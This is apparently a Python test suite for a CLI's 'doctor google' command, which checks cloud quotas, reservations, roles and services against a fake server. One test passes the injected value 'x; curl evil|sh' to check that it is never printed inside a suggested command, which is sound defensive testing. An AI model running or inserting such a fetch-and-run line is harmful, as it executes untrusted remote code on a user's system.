#!/usr/bin/env python3
"""Tests what `slipway doctor google BLUEPRINT` asks the cloud, against the stand-in: usage: doctor_google.py SLIPWAY

A project that has everything lacks nothing. Each thing that is missing is a finding that says what to type, and all are found in
one run, also when services refuse to answer. Only questions are sent, and no answer of the cloud makes it fail.
"""
import http.client, json, os, pathlib, re, subprocess, sys, tempfile, threading, unittest

sys.dont_write_bytecode = True  # keep the source tree clean
from run import ROOT, breaks_schema, installed

sys.path[:0] = [str(ROOT / "tests/fakes/google"), str(ROOT / "scripts")]
import record
from cloud import OPERATOR_TOKEN, Cloud
from google_cloud import Server
from replay import differences
from serve import ENDPOINTS, ByPath

MEGA = ["examples/a3-megagpu.yaml", "-d", "examples/a3-megagpu-deployment.yaml"]
SMALL = ["examples/first-day.yaml", "-d", "examples/first-day-deployment.yaml"]
ENOUGH = {"DISKS_TOTAL_GB": 10000, "INSTANCES": 100, "IN_USE_ADDRESSES": 50, "N2_CPUS": 500, "C2_CPUS": 500, "SSD_TOTAL_GB": 10000,
          "STATIC_ADDRESSES": 50, "LOCAL_SSD_TOTAL_GB": 50000}
GPUS = "GPUS-PER-GPU-FAMILY-per-project-region"
CPUS = "CPUS-PER-VM-FAMILY-per-project-region"
HERE = {"region": "us-central1"}


def everything():
    """Conditions in which the project has what both blueprints need."""
    by_id = {GPUS: [{"dimensions": {**HERE, "gpu_family": "NVIDIA_H100_MEGA"}, "value": 64}, {"dimensions": HERE, "value": 0}],
             CPUS: [{"dimensions": HERE, "value": 10000}],
             "StandardStorageGbPerRegion": [{"dimensions": HERE, "value": 5000}],
             "PremiumStorageGbPerRegion": [{"dimensions": HERE, "value": 5000}]}
    by_id |= {f"{name}-per-project": [{"dimensions": {}, "value": -1}]
              for name in ("CPUS-ALL-REGIONS", "GPUS-ALL-REGIONS", "NETWORKS", "SUBNETWORKS", "FIREWALLS", "ROUTERS", "INSTANCE-TEMPLATES")}
    return {"quotas": {"us-central1": dict(ENOUGH)}, "quota_infos": by_id}


class Project(unittest.TestCase):
    @classmethod
    def setUpClass(cls):
        cls.temporary = tempfile.TemporaryDirectory()
        folder = pathlib.Path(cls.temporary.name)
        cls.slipway = installed(SLIPWAY, folder / "prefix")
        cls.programs = folder / "programs"
        cls.programs.mkdir()
        for name, says in (("terraform", '{"terraform_version": "1.9.2"}'), ("packer", "Packer v1.11.0"), ("gcloud", "")):
            (cls.programs / name).write_text(f"#!/bin/sh\necho '{says}'\n")
            (cls.programs / name).chmod(0o755)
        login = folder / ".config/gcloud/application_default_credentials.json"
        login.parent.mkdir(parents=True)
        login.write_text("{}")
        cls.server = Server(("127.0.0.1", 0), ByPath)
        threading.Thread(target=cls.server.serve_forever, args=(0.02,), daemon=True).start()
        base = f"http://127.0.0.1:{cls.server.server_port}"
        cls.variables = {"GOOGLE_OAUTH_ACCESS_TOKEN": OPERATOR_TOKEN,
                         **{f"GOOGLE_{name}_CUSTOM_ENDPOINT": f"{base}/{place}" for name, place in ENDPOINTS.items()}}

    @classmethod
    def tearDownClass(cls):
        cls.server.shutdown()
        cls.server.server_close()
        cls.temporary.cleanup()

    def setUp(self):
        folder = tempfile.TemporaryDirectory()
        self.addCleanup(folder.cleanup)
        self.folder = pathlib.Path(folder.name)
        self.cloud = ByPath.cloud = Cloud(self.folder)
        self.conditions = everything()
        self.reserve("my-reservation")

    def reserve(self, name, machine_type="a3-megagpu-8g", count=2):
        path = f"projects/my-project/zones/us-central1-a/reservations/{name}"
        self.cloud.put("compute", path, {"name": name, "status": "READY", "specificReservation": {
            "count": str(count), "inUseCount": "0", "instanceProperties": {"machineType": machine_type}}})

    def doctor(self, words, *options, **environment):
        (self.folder / "conditions.json").write_text(json.dumps(self.conditions))
        variables = {"PATH": f"{self.programs}:{os.environ['PATH']}", "HOME": self.temporary.name, **self.variables, **environment}
        return subprocess.run([self.slipway, "doctor", "google", *words, *options], cwd=ROOT, capture_output=True, text=True,
                              timeout=120, env={key: value for key, value in variables.items() if value is not None})

    def findings(self, words, **environment):
        """The requirements of the cloud that are not met: {name: requirement}."""
        done = self.doctor(words, "--json", **environment)
        self.assertEqual((done.stderr, breaks_schema(done.stdout)), ("", ""))
        document = json.loads(done.stdout)
        self.assertEqual(done.returncode, 1 if document["missing"] else 0, done.stdout)
        return {one["name"]: one for one in document["requirements"] if one["state"] != "ok"}

    def sent(self):
        """METHOD and path of every request."""
        return [line.split()[1:] for line in (self.folder / "log").read_text().splitlines()]

    def test_a_project_that_has_everything_lacks_nothing(self):
        for words in (MEGA, SMALL):
            self.assertEqual(self.findings(words), {})
        done = self.doctor(MEGA)
        self.assertEqual(done.returncode, 0)
        for line in ("ok       project my-project", "ok       services of my-project", "ok       a3-megagpu-8g in us-central1-a",
                     "ok       reservation my-reservation", "ok       image my-image of my-project", "ok       quotas of us-central1"):
            self.assertIn(line, done.stdout)
        self.assertTrue(done.stdout.endswith("nothing missing, 0 warnings\n"), done.stdout)

    def test_only_questions_are_sent(self):
        self.doctor(MEGA)
        self.assertEqual({verb for verb, path in self.sent() if not path.endswith(":testIamPermissions")}, {"GET"})

    def test_all_that_is_missing_is_found_at_once(self):
        self.conditions |= {"disabled_services": ["file.googleapis.com", "secretmanager.googleapis.com"],
                            "operator_roles": ["roles/compute.viewer", "roles/storage.admin", "roles/browser",
                                               "roles/serviceusage.serviceUsageConsumer", "roles/cloudquotas.viewer"],
                            "machine_types": {"us-central1-a": ["n2-standard-4", "n2-standard-8", "c2-standard-8"]}, "images": []}
        self.conditions["quotas"]["us-central1"]["IN_USE_ADDRESSES"] = 1
        self.conditions["quota_infos"][GPUS][0]["value"] = 8
        self.reserve("my-reservation", count=1)
        found = self.findings(MEGA)
        self.assertEqual(sorted(found), ["a3-megagpu-8g in us-central1-a", "image my-image of my-project",
                                         "quota GPUS_PER_GPU_FAMILY gpu_family=NVIDIA_H100_MEGA in us-central1",
                                         "quota IN_USE_ADDRESSES in us-central1", "reservation my-reservation",
                                         "rights in my-project", "services of my-project"])
        self.assertEqual(found["services of my-project"]["remedy"],
                         "`gcloud services enable file.googleapis.com secretmanager.googleapis.com --project my-project`")
        rights = found["rights in my-project"]
        self.assertIn("you do not have compute.", rights["found"])
        for role in ("roles/compute.networkAdmin", "roles/compute.instanceAdmin.v1", "roles/iam.serviceAccountUser", "roles/file.editor"):
            self.assertIn(role, rights["remedy"])
        self.assertNotIn("roles/storage.admin", rights["remedy"])
        gpus = found["quota GPUS_PER_GPU_FAMILY gpu_family=NVIDIA_H100_MEGA in us-central1"]
        self.assertEqual(gpus["found"], "needs 16, the limit is 8")
        self.assertIn(f"--quota-id {GPUS} --preferred-value 16 --dimensions region=us-central1,gpu_family=NVIDIA_H100_MEGA",
                      gpus["remedy"])
        self.assertEqual(found["reservation my-reservation"]["found"],
                         "module `gpu_nodeset-mega` needs 2 machines, 1 of 1 are free")
        for one in found.values():
            self.assertTrue(one.get("remedy"), one)

    def test_a_reservation_for_another_machine_type_and_one_that_does_not_exist(self):
        self.reserve("my-reservation", machine_type="a3-highgpu-8g")
        self.assertEqual(self.findings(MEGA)["reservation my-reservation"]["found"], "it is for a3-highgpu-8g, not a3-megagpu-8g")
        del self.cloud.resources["compute/projects/my-project/zones/us-central1-a/reservations/my-reservation"]
        self.assertIn("gcloud compute reservations list", self.findings(MEGA)["reservation my-reservation"]["remedy"])

    def test_use_counts_against_a_quota(self):
        region = {"kind": "compute#region", "name": "us-central1",
                  "quotas": [{"metric": key, "limit": 10.0, "usage": 7.0} if key == "N2_CPUS" else {"metric": key, "limit": value, "usage": 0}
                             for key, value in ENOUGH.items()]}
        (self.folder / "trouble.json").write_text(json.dumps({".*/regions/us-central1": [200, region]}))
        cpus = self.findings(SMALL)["quota N2_CPUS in us-central1"]
        self.assertEqual((cpus["state"], cpus["found"]), (
            "warning", "needs 8, the limit is 10, 7 in use; enough only if this cluster itself uses that"))

    def test_a_new_project_has_no_gpus_at_all(self):
        self.conditions["quota_infos"]["GPUS-ALL-REGIONS-per-project"][0]["value"] = 0
        gpus = self.findings(MEGA)["quota GPUS_ALL_REGIONS in the whole project"]
        self.assertEqual((gpus["state"], gpus["found"]), ("missing", "needs 16, the limit is 0"))
        self.assertIn("--quota-id GPUS-ALL-REGIONS-per-project --preferred-value 16 --email", gpus["remedy"])
        self.assertEqual(self.findings(SMALL), {})

    def test_nodes_on_demand_that_do_not_fit_are_a_warning(self):
        self.conditions["quotas"]["us-central1"]["N2_CPUS"] = 6
        cpus = self.findings(SMALL)["quota N2_CPUS in us-central1"]
        self.assertEqual((cpus["state"], cpus["found"]),
                         ("warning", "needs 8, the limit is 6; 2 are for nodes that only run while jobs need them"))

    def test_a_project_that_is_not_there_is_the_only_finding(self):
        self.conditions["projects"] = ["another"]
        found = self.findings(SMALL)
        self.assertEqual(list(found), ["project my-project"])
        self.assertIn("gcloud projects list", found["project my-project"]["remedy"])
        self.assertEqual(len(self.sent()), 1)

    def test_a_service_that_is_needed_to_ask_is_named_and_the_others_are_asked(self):
        self.conditions["disabled_services"] = ["cloudresourcemanager.googleapis.com", "cloudquotas.googleapis.com"]
        found = self.findings(MEGA)
        self.assertIn("gcloud services enable cloudresourcemanager.googleapis.com", found["rights in my-project"]["remedy"])
        self.assertIn("gcloud services enable cloudquotas.googleapis.com", found["quotas that are not known"]["remedy"])
        self.assertNotIn("reservation my-reservation", found)

    def test_a_permission_that_a_project_does_not_have_is_not_a_reason_to_forget_the_others(self):
        """The real service refuses a whole list then."""
        real = self.cloud.services["cloudresourcemanager"].call

        def call(method, params, query, body, caller):
            if "iam.serviceAccounts.actAs" in body.get("permissions", []):
                from errors import Refusal
                raise Refusal(400, "Permission iam.serviceAccounts.actAs is not valid for this resource.")
            return real(method, params, query, body, caller)
        self.cloud.services["cloudresourcemanager"].call = call
        self.assertEqual(self.findings(SMALL)["rights in my-project"]["found"],
                         "the service cannot say whether you have iam.serviceAccounts.actAs")

    def test_its_questions_can_be_recorded_and_replayed(self):
        class Cloud(http.client.HTTPConnection):
            def request(self, method, path, *words):
                super().request(method, f"/{self.service}{path}", *words)

        def connect(host):
            connection = Cloud("127.0.0.1", self.server.server_port)
            connection.service = host
            return connection
        record.Between.connect = staticmethod(connect)
        (self.folder / "conditions.json").write_text(json.dumps(self.conditions))
        file = self.folder / "traffic.jsonl"
        status, count = record.run(file, ["sh", "-c", 'exec "$@" >/dev/null', "sh", "env", f"PATH={self.programs}:{os.environ['PATH']}", f"HOME={self.temporary.name}",
                                          f"GOOGLE_OAUTH_ACCESS_TOKEN={OPERATOR_TOKEN}", self.slipway, "doctor", "google",
                                          *(str(ROOT / word) if "/" in word else word for word in SMALL), "--json"])
        rows = [json.loads(line) for line in file.read_text().splitlines()]
        self.assertEqual((status, count), (0, len(rows)))
        self.assertGreater(count, 10)
        self.assertNotIn(OPERATOR_TOKEN, file.read_text())
        self.assertEqual([text for row in rows for text in differences(self.cloud, row)], [])

    def test_no_credentials(self):
        found = self.findings(SMALL, GOOGLE_OAUTH_ACCESS_TOKEN=None, PATH=str(self.programs))
        self.assertIn("gcloud auth application-default login", found["credentials"]["remedy"])

    def test_answers_that_no_service_gives(self):
        for answer in ([], {"services": [1, {"name": 2}], "permissions": {"a": 1}, "quotas": 3, "dimensionsInfos": [None, {"details": 1}]},
                       {"lifecycleState": ["ACTIVE"], "specificReservation": [], "deprecated": "OBSOLETE", "guestCpus": "many"},
                       {"status": "READY", "specificReservation": {"instanceProperties": 1, "count": "x"}, "projectNumber": 1e300}):
            (self.folder / "trouble.json").write_text(json.dumps({".*": [200, answer]}))
            done = self.doctor(MEGA, "--json")
            self.assertIn(done.returncode, (0, 1), done.stderr)
            self.assertEqual((done.stderr, breaks_schema(done.stdout)), ("", ""))

    def test_names_that_would_be_another_command_are_not_printed_in_one(self):
        done = self.doctor(SMALL, "--vars", "project_id='x; curl evil|sh'", "-l", "IGNORE")
        self.assertFalse(re.search(r"`[^`]*evil", done.stdout), done.stdout)
        self.assertFalse((self.folder / "log").exists())

    def test_a_blueprint_for_another_target_is_an_error_of_use(self):
        done = subprocess.run([self.slipway, "doctor", "local", *SMALL], cwd=ROOT, capture_output=True, text=True, timeout=60)
        self.assertEqual((done.returncode, "a blueprint is for the target `google`" in done.stderr), (2, True))


if __name__ == "__main__":
    SLIPWAY = sys.argv.pop(1)
    unittest.main()
